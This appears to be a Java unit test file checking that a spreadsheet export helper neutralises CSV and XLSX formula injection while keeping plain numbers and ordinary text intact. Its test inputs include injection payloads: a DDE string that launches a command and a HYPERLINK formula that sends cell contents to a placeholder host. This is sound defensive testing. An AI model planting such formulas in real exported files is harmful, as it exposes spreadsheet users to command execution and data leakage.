package vn.hoctap.platform;

import static org.assertj.core.api.Assertions.assertThat;

import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

class SpreadsheetCellsTest {

    @Test
    void formulaStartsArePrefixedWithAQuoteNumbersAreNot() {
        assertThat(SpreadsheetCells.neutralise("=HYPERLINK(\"http://x\"&A1,\"click\")")).isEqualTo("'=HYPERLINK(\"http://x\"&A1,\"click\")");
        assertThat(SpreadsheetCells.neutralise("+1+1")).isEqualTo("'+1+1");
        assertThat(SpreadsheetCells.neutralise("-2+3+cmd|' /C calc'!A0")).isEqualTo("'-2+3+cmd|' /C calc'!A0");
        assertThat(SpreadsheetCells.neutralise("@SUM(A1)")).isEqualTo("'@SUM(A1)");
        assertThat(SpreadsheetCells.neutralise("\tx")).isEqualTo("'\tx");
        assertThat(SpreadsheetCells.neutralise("\rx")).isEqualTo("'\rx");
        assertThat(SpreadsheetCells.neutralise("＝1+1")).isEqualTo("'＝1+1");
        // plain numbers stay numbers, ordinary text is untouched
        assertThat(SpreadsheetCells.neutralise("-12")).isEqualTo("-12");
        assertThat(SpreadsheetCells.neutralise("-3.5")).isEqualTo("-3.5");
        assertThat(SpreadsheetCells.neutralise("Thôn Đông = 1")).isEqualTo("Thôn Đông = 1");
        assertThat(SpreadsheetCells.neutralise("")).isEmpty();
        assertThat(SpreadsheetCells.neutralise(null)).isEmpty();
    }

    @Test
    void csvCellsAreNeutralisedThenQuotedAndRestoreIsTheInverse() {
        assertThat(SpreadsheetCells.csv("=HYPERLINK(\"http://x\"&A1,\"click\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\"");
        assertThat(SpreadsheetCells.csvLine("a,b", "-5", "@x")).isEqualTo("\"a,b\",-5,'@x");
        for (String s : new String[] {"=1+1", "-2+3", "@x", "\tx", "-12", "plain", "'quoted"}) {
            assertThat(SpreadsheetCells.restore(SpreadsheetCells.neutralise(s))).isEqualTo(s);
        }
    }

    static final class Rows extends XlsxRows<Rows> {
        Rows(org.apache.poi.ss.usermodel.Sheet s) {
            super(s, null, null);
        }
    }

    @Test
    void xlsxTextCellsAreNeutralisedAndNegativeNumbersStayNumbers() throws Exception {
        try (XSSFWorkbook wb = new XSSFWorkbook()) {
            Rows r = new Rows(wb.createSheet("t"));
            r.row().text("=1+1").num(-5L, wb.createCellStyle()).num(-2.5, wb.createCellStyle()).text("Thôn 1");
            var row = r.sheet().getRow(0);
            assertThat(row.getCell(0).getCellType()).isEqualTo(CellType.STRING);
            assertThat(row.getCell(0).getStringCellValue()).isEqualTo("'=1+1");
            assertThat(row.getCell(1).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(row.getCell(1).getNumericCellValue()).isEqualTo(-5.0);
            assertThat(row.getCell(2).getNumericCellValue()).isEqualTo(-2.5);
            assertThat(row.getCell(3).getStringCellValue()).isEqualTo("Thôn 1");
        }
    }
}
